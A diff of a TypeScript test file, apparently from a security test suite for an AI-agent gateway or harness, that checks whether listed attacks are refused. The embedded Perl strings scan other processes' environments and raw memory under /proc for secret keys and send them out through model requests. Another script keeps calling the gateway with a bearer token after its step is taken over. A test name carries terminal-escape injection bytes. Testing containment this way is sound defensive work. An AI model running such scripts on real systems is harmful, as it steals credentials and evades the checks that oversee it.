@@ -6,6 +6,7 @@ import { promisify } from 'node:util';
 import { systemClock } from '../../src/lib/clock.ts';
 import { waitUntil } from '../../src/lib/wait-until.ts';
 import { openDatabase } from '../../src/store/database.ts';
+import { processesWith, uniqueSleep, untilProcessesWith } from '../../src/testing/marked-processes.ts';
 import { tempFolder, tempRepository } from '../../src/testing/temp-repository.ts';
 import { type Attack, KEPT, whereAllowed } from './attack.ts';
 import { inTerminal, isObeyed } from './claims.ts';
@@ -20,9 +21,9 @@ import type { Stage } from './stage.ts';
 /** Every place in which a process of this machine shows its environment, or its memory; what is found goes to the model, written in another way. */
 const FOUND = 'begin("{\\"model\\":\\"known\\",\\"input\\":\\"" . unpack("H*", $found) . "\\"}")';
 const IN_ENVIRONMENTS = `my $found = ""; for my $e (glob "/proc/[0-9]*/environ /proc/[0-9]*/task/*/environ") { open(my $in, "<", $e) or next; local $/; my $all = <$in> // ""; $found .= $1 if $all =~ /(KEY[0-9a-f]{18})/ } hear(${FOUND});`;
-const IN_MEMORY = `my $found = ""; for my $p (glob "/proc/[0-9]*") { open(my $c, "<", "$p/cmdline") or next; my $args = do { local $/; <$c> } // ""; next unless $args =~ /server\\0run/;
+const IN_MEMORY = `my %found; for my $p (glob "/proc/[0-9]*") { open(my $c, "<", "$p/cmdline") or next; my $args = do { local $/; <$c> } // ""; next unless $args =~ /server\\0run/;
 open(my $maps, "<", "$p/maps") or next; open(my $mem, "<:raw", "$p/mem") or next;
-while (<$maps>) { next unless /^([0-9a-f]+)-([0-9a-f]+) rw/; my ($from, $to) = (hex $1, hex $2); next if $to - $from > 300_000_000; sysseek($mem, $from, 0) or next; sysread($mem, my $data, $to - $from) or next; if ($data =~ /(KEY[0-9a-f]{18})/) { $found = $1; last } } last if $found } hear(${FOUND});`;
+while (<$maps>) { next unless /^([0-9a-f]+)-([0-9a-f]+) rw/; my ($from, $to) = (hex $1, hex $2); next if $to - $from > 300_000_000; sysseek($mem, $from, 0) or next; sysread($mem, my $data, $to - $from) or next; $found{$1} = 1 while $data =~ /(KEY[0-9a-f]{18})/g } } my $found = join " ", keys %found; hear(${FOUND});`;
 const IN_OWN = `my $found = join(" ", %ENV); for my $f (glob("~/* ~/.* /tmp/* ./.* /proc/self/environ /proc/self/cmdline")) { next unless -f $f && -s $f < 1_000_000; open(my $in, "<", $f) or next; local $/; $found .= <$in> // "" } $found = substr($found, 0, 500000); hear(${FOUND});`;
 
 function reads(name: string, program: string): Attack {
@@ -53,7 +54,7 @@ const inItsOwn: Attack = {
 };
 
 const takenOver: Attack = {
-  name: 'asks on when another attempt has taken its step over',
+  name: 'asks on, for what costs nothing as well, when another attempt has taken its step over',
   subject: 'gateway keys',
   async play({ level }) {
     return { before: 'refused', after: await askedAfterwards(await meteredAt(level, { isBounded: false })) };
@@ -63,22 +64,24 @@ const takenOver: Attack = {
     if (open !== 'refused') throw new Error('the gateway itself lets it through');
     await using to = await provider();
     await using way = await carelessPipe(stage, to);
-    await asks(stage, way, [request(way), request(way)]);
+    await asks(stage, way, [request(way), request(way, { method: 'GET', path: '/v1/models', body: '' })]);
     return { before: 'refused', after: to.arrived.length > 1 ? 'came through' : 'refused' };
   },
   twin: IS_ANSWERED,
 };
 
-/** Asks once, is taken over, asks twice more, and says that it is done by what costs nothing. */
-const ASKS_ON = `my $body = "{\\"model\\":\\"known\\"}"; hear(begin($body)) for 1 .. 3; my $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $port) or die; print $c "GET /v1/models HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer $token\\r\\nConnection: close\\r\\n\\r\\n"; $c->flush; hear($c);`;
+/** Asks once, is taken over, asks twice more, and for what costs nothing; then it is a program that shows that it is done. */
+const asksOn = (done: string): string =>
+  `my $body = "{\\"model\\":\\"known\\"}"; hear(begin($body)) for 1 .. 3; my $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $port) or die; print $c "GET /v1/models HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer $token\\r\\nConnection: close\\r\\n\\r\\n"; $c->flush; hear($c); exec "sleep", "${done}";`;
 
 async function askedAfterwards(metered: Metered): Promise<string> {
   const { at } = metered;
+  const done = uniqueSleep();
   const { databaseUrl } = await at.client.call('joinWorker', {});
   await using database = openDatabase(databaseUrl, { clock: systemClock });
   await using repository = await tempRepository({
     'README.md': 'x\n',
-    'agent.sh': calling(ASKS_ON),
+    'agent.sh': calling(asksOn(done)),
     '.switchyard/config.yaml': 'checks: {}\nsetup: none\n',
   });
   const before = metered.provider.arrived.length;
@@ -97,13 +100,11 @@ async function askedAfterwards(metered: Metered): Promise<string> {
     cwd: repository.path,
   });
   run = (JSON.parse(started.stdout) as { run: string }).run;
-  await waitUntil(async () => arrived().some(({ method }) => method === 'GET'), {
-    timeoutMs: 30_000,
-    what: 'it to be done',
-  });
+  await untilProcessesWith(done, 1);
   await lease(-1);
+  for (const pid of processesWith(done)) process.kill(pid, 'SIGTERM');
   await at.settled(run);
-  return arrived().filter(({ method }) => method === 'POST').length > 1 ? 'came through' : 'refused';
+  return arrived().length > 1 ? 'came through' : 'refused';
 }
 
 const NAME = `evil\u001b[2J\u001b]0;owned\u0007\u009b31m\u202e${'x'.repeat(2 ** 20)}`;
